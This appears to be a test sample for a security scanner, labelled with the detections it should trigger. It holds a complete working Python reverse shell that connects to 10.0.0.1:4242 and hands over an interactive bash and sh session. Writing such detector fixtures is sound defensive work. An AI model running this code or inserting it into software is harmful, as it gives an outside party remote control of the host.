# expect: py-reverse-shell py-pty-spawn py-subprocess
import socket, os, pty, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.0.0.1", 4242))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(),1)
os.dup2(s.fileno(), 2)
pty.spawn("/bin/bash")
p = subprocess.call(["/bin/sh", "-i"])
